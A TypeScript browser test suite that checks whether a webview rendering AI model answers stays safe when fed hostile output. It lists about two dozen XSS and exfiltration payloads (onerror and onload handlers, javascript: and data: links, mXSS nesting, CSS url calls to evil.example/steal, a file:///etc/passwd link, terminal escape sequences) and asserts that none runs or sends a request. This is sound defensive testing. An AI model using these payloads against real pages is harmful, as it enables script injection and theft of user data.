import assert from "node:assert/strict";
import { describe, it } from "mocha";
import type { Runner } from "./fake-host.ts";
import { delta, ready, run, streaming, waiting } from "./samples.ts";
import { useRunner } from "./use-runner.ts";

declare global {
  interface Window {
    ran?: unknown;
  }
}

const evil = "https://evil.example/steal";
const outputs: [name: string, text: string][] = [
  ["an image tag", `<img src=${evil}?q=secret onerror="window.ran=1">`],
  ["a Markdown image", `![tracker](${evil}.png "t") and ![](http://evil.example/2.png)`],
  ["a reference image", `![x][1]\n\n[1]: ${evil}.png`],
  ["a script", "<script>window.ran=1</script><script src=https://evil.example/x.js></script>"],
  ["an svg", '<svg onload="window.ran=1"><image href="https://evil.example/s.svg"/></svg>'],
  ["a frame", `<iframe src="${evil}" srcdoc="<script>parent.ran=1</script>"></iframe>`],
  ["a refresh", `<meta http-equiv="refresh" content="0;url=${evil}">`],
  ["a style", `<style>@import url(${evil}.css);body{background:url(${evil}.png)}</style>`],
  ["a style attribute", `<p style="background:url(${evil}.png)">x</p>`],
  ["a base and a link", `<base href="https://evil.example/"><link rel=stylesheet href="${evil}.css">`],
  ["a prefetch", `<link rel="dns-prefetch" href="//evil.example"><link rel=prefetch href="${evil}">`],
  ["a form", `<form action="${evil}"><button autofocus onfocus="window.ran=1">Go</button></form>`],
  ["media", `<video src="${evil}.mp4" autoplay></video><audio src="${evil}.mp3" autoplay></audio>`],
  ["an object", `<object data="${evil}"></object><embed src="${evil}">`],
  ["a command link", "[run](command:workbench.action.terminal.new) <command:x>"],
  [
    "a script link",
    "[a](javascript:window.ran=1) [b](JaVaScRiPt:window.ran=1) [c](&#106;avascript:window.ran=1)",
  ],
  [
    "data and file links",
    "[a](data:text/html,<script>window.ran=1</script>) [b](file:///etc/passwd) [c](vscode://x)",
  ],
  ["a mutation", '<math><mtext><table><mglyph><style><img src=x onerror="window.ran=1">'],
  ["a closed template", '</template></div></script><img src=x onerror="window.ran=1">'],
  ["a link with quotes", '[x](https://ok.example/"onmouseover="window.ran=1)'],
  ["a code fence's language", '```"><img src=x onerror=window.ran=1>\ncode\n```'],
  ["a table cell", `| a |\n| --- |\n| <img src=${evil} onerror=window.ran=1> |`],
  [
    "a terminal's escapes",
    "\u001b]52;c;ZXZpbA==\u0007\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  ],
  ["line separators", "</script>\u2028<script>window.ran=1</script>\u2029"],
];

/** Streams the text in pieces of seven characters, then ends, then goes through all the views. */
async function play(runner: Runner, text: string) {
  await runner.send(...ready(), { type: "run", run: waiting() }, { type: "run", run: streaming("") });
  for (let at = 0; at < text.length; at += 7) {
    await runner.send(delta(text.slice(at, at + 7)));
  }
  await runner.page.waitForTimeout(50);
  await runner.send({ type: "run", run: run({ text, startedAt: Date.now() }) });
  for (const view of ["Raw", "JSON", "Rendered"]) {
    await runner.page.getByRole("radiogroup", { name: "Answer view" }).getByText(view).click();
  }
  await runner.page.waitForTimeout(50);
}

describe("what a model answers can neither run nor call home", function () {
  this.timeout(30_000);
  const { open, site } = useRunner();

  for (const [name, text] of outputs) {
    it(name, async () => {
      const runner = await open();
      await play(runner, text);
      const { page } = runner;
      assert.equal(await page.evaluate(() => window.ran), undefined);
      assert.deepEqual(runner.requests, []);
      assert.deepEqual(site().strays, []);
      assert.equal(page.url(), site().url);
      const found = await page.evaluate(() => {
        const content = document.querySelector(".content");
        const all = [...(content?.querySelectorAll("*") ?? [])];
        return {
          foreign: all
            .map((element) => element.localName)
            .filter((name) =>
              /^(script|img|svg|iframe|style|link|meta|form|input|video|audio|object|embed|base|math)$/.test(
                name,
              ),
            ),
          handlers: all.flatMap((element) =>
            element.getAttributeNames().filter((name) => /^on|^style$|^src/.test(name)),
          ),
          links: all
            .map((element) => element.getAttribute("href"))
            .filter((href) => href !== null && !/^(https?:|mailto:)/.test(href)),
        };
      });
      assert.deepEqual(found, { foreign: [], handlers: [], links: [] });
      await page.context().close();
    });
  }

  it("a hostile error, tool call, name, model and message are text", async () => {
    const runner = await open();
    const bad = `<img src=${evil} onerror="window.ran=1">`;
    const [obstacle, prompt, models, rendered, history] = ready();
    assert.ok(
      prompt?.type === "prompt" &&
        prompt.prompt &&
        models?.type === "models" &&
        rendered?.type === "rendered",
    );
    prompt.prompt.name = bad;
    prompt.prompt.fields[0] = { name: bad, type: "string", required: true, description: bad };
    prompt.prompt.saved.push({ name: bad, input: { [bad]: bad } });
    prompt.prompt.config = { [bad]: bad };
    models.models[0]!.id = bad;
    rendered.rendered.messages = [
      { role: "user", content: [{ text: bad }, { media: { url: `${evil}.png`, contentType: bad } }] },
    ];
    await runner.send(obstacle!, prompt, models, rendered, history!, {
      type: "run",
      run: run({
        status: "failed",
        text: "",
        toolCalls: [{ name: bad, arguments: bad }],
        error: {
          message: bad,
          type: bad,
          code: bad,
          param: null,
          request_id: bad,
          run_id: bad,
          source: "provider",
          retryable: true,
        },
      }),
    });
    await runner.page.waitForTimeout(100);
    assert.equal(await runner.page.evaluate(() => window.ran), undefined);
    assert.deepEqual(runner.requests, []);
    assert.equal(await runner.page.locator("img").count(), 0);
    await runner.page.context().close();
  });

  it("a link goes to the host, and the page stays", async () => {
    const runner = await open();
    await play(runner, "[manual](https://docs.example/a?b=c)");
    await runner.page.getByRole("link", { name: "manual" }).click();
    await runner.page.getByRole("link", { name: "manual" }).click({ button: "middle" });
    assert.deepEqual(await runner.posted("open-link"), [
      { type: "open-link", href: "https://docs.example/a?b=c" },
    ]);
    assert.equal(runner.page.url(), site().url);
    assert.equal(runner.page.context().pages().length, 1);
    await runner.page.context().close();
  });

  it("messages that are none, or of a type to come, are ignored", async () => {
    const runner = await open();
    await runner.send(...ready());
    await runner.page.evaluate(() => {
      for (const data of [null, 5, "x", [], {}, { type: 5 }, { type: "to-come", html: "<b>" }]) {
        window.dispatchEvent(new MessageEvent("message", { data }));
      }
    });
    assert.ok(await runner.page.getByRole("button", { name: /^Run/ }).isVisible());
    await runner.page.context().close();
  });
});
